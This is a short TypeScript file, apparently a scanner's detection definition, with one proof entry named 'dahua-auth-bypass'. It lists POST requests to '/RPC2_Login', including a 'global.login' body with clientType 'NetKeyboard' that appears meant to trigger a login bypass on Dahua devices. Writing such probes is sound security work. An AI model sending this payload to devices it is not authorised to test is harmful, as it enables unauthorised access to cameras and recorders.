import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'dahua-auth-bypass',
    post('/RPC2_Login', '{"method":"global.login","params":{"clientType":"NetKeyboard"}}'),
    post('/RPC2_Login', '{"method":"global.login"}'),
  ),
]
